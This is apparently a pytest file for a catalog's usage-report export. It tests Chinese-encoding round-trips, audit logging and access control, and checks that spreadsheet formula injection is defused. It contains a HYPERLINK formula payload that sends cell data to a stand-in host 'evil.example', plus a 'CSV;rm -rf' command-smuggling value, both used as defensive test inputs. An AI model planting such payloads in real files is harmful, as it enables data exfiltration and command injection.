"""Usage files: CSV (UTF-8 with BOM, GBK, GB18030) and XLSX round-trips with Chinese names;
formula injection; an export is recorded with the SHA-256 of exactly the file."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from catalog.errors import AccessRefused, InvalidInput
from catalog.models import AuditEvent
from catalog.usage_export import export_report
from catalog.usage_files import csv_bytes, parse_encoding, parse_format
from catalog.usage_tables import Table
from catalog.usage_window import ReportQuery
from tests.catalog import usage_factories as uf
from tests.catalog.usage_factories import NOW

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def _world_with_use(
    session: Session, tmp_path: Path, purpose: str = "社保缴费核对"
) -> uf.UsageWorld:
    w = uf.world(session, tmp_path)
    g = uf.grant(session, w.ex, ["citizen_id", "period"], purpose=purpose)
    uf.read(
        session, w.ex.requester.principal, g, NOW - dt.timedelta(hours=2), 12, columns=("period",)
    )
    session.commit()
    return w


def test_csv_utf8_has_a_bom_and_reads_back_in_chinese() -> None:
    table = Table("t", ("部门", "用途"), [("杭州市税务局", "核对"), ("𠮷野家", "生僻字")])
    body = csv_bytes(table)
    assert body.startswith(b"\xef\xbb\xbf")
    assert body.count(b"\r\n") == 3
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows == [["部门", "用途"], ["杭州市税务局", "核对"], ["𠮷野家", "生僻字"]]
    assert list(csv.reader(io.StringIO(csv_bytes(table, "gb18030").decode("gb18030"))))[2][0] == (
        "𠮷野家"
    )
    with pytest.raises(InvalidInput) as caught:
        csv_bytes(table, "gbk")  # 𠮷 is not in GBK
    assert caught.value.code == "usage.encoding_unrepresentable"
    assert caught.value.context["line"] == 3
    ok = Table("t", ("部门",), [("杭州市人力资源和社会保障局",)])
    assert csv_bytes(ok, "gbk").decode("gbk").splitlines()[1] == "杭州市人力资源和社会保障局"


def test_csv_cells_never_start_a_formula() -> None:
    table = Table("t", ("用途",), [(HOSTILE,), ("+1",), ("-1",), ("@SUM(A1)",), ("普通",), (-5,)])
    rows = list(csv.reader(io.StringIO(csv_bytes(table).decode("utf-8-sig"))))[1:]
    assert [r[0] for r in rows] == ["'" + HOSTILE, "'+1", "'-1", "'@SUM(A1)", "普通", "-5"]


def test_bad_format_and_encoding() -> None:
    for bad in ("pdf", "", "CSV;rm -rf"):
        with pytest.raises(InvalidInput) as caught:
            parse_format(bad)
        assert caught.value.code == "usage.bad_format"
    assert parse_encoding("UTF8") == "utf-8" and parse_encoding("GBK") == "gbk"
    with pytest.raises(InvalidInput) as caught:
        parse_encoding("latin-1")
    assert caught.value.code == "usage.bad_encoding"


def test_xlsx_export_round_trips_and_is_recorded(catalog_session: Session, tmp_path: Path) -> None:
    w = _world_with_use(catalog_session, tmp_path, purpose=HOSTILE + "\x01")
    done = export_report(
        catalog_session,
        w.auditor,
        ReportQuery(date_from="2026-03-01", date_to="2026-03-20"),
        report="usage",
        file_format="xlsx",
        now=NOW,
    )
    catalog_session.commit()
    book = load_workbook(io.BytesIO(done.body))
    assert book.sheetnames == ["用量明细", "用量汇总", "条件"]
    sheet = book["用量明细"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("周期", "部门代码", "部门")
    line = dict(zip(rows[0], rows[1], strict=True))
    assert line["部门"] == w.ex.requester_dept.name and line["部门"].startswith("部门")
    assert line["信息资源"] == "社会保险缴费信息"
    assert line["行数"] == 12 and line["读取次数"] == 1
    assert line["用途"] == HOSTILE + "\ufffd"  # text, not a formula; the control character gone
    cell = sheet.cell(row=2, column=rows[0].index("用途") + 1)
    assert cell.data_type == "s"
    assert done.name == "usage_2026-03-01_2026-03-20.xlsx" and done.row_count == 1

    event = catalog_session.get(AuditEvent, done.event_id)
    assert event is not None and event.action == "audit.usage_exported"
    assert event.content_sha256 == hashlib.sha256(done.body).hexdigest() == done.sha256
    assert event.bytes_sent == len(done.body) and event.rows_sent == 1
    assert event.actor_account_id == w.auditor.account_id
    assert event.detail["report"] == "usage" and event.detail["date_from"] == "2026-03-01"


def test_reconciliation_csv_in_english(catalog_session: Session, tmp_path: Path) -> None:
    w = _world_with_use(catalog_session, tmp_path)
    done = export_report(
        catalog_session,
        w.admin,
        ReportQuery(department=w.ex.requester_dept.code),
        report="reconciliation",
        file_format="csv",
        encoding="gbk",
        lang="en",
        now=NOW,
    )
    rows = list(csv.DictReader(io.StringIO(done.body.decode("gbk"))))
    assert len(rows) == 1
    assert rows[0]["columns never read"] == "citizen_id"
    assert rows[0]["findings"] == "columns_never_read columns never read"
    assert rows[0]["department"] == w.ex.requester_dept.name
    assert done.media_type == "text/csv; charset=gbk" and done.name.endswith("_gbk.csv")


def test_only_auditors_and_admins_export_and_nothing_is_recorded_for_a_refusal(
    catalog_session: Session, tmp_path: Path
) -> None:
    w = _world_with_use(catalog_session, tmp_path)
    with pytest.raises(AccessRefused):
        export_report(
            catalog_session,
            w.ex.requester.principal,
            ReportQuery(),
            report="usage",
            file_format="csv",
            now=NOW,
        )
    with pytest.raises(InvalidInput) as caught:
        export_report(
            catalog_session, w.auditor, ReportQuery(), report="lineage", file_format="csv", now=NOW
        )
    assert caught.value.code == "usage.bad_report"
    actions = catalog_session.scalars(select(AuditEvent.action)).all()
    assert "audit.usage_exported" not in actions and "access.refused" in actions
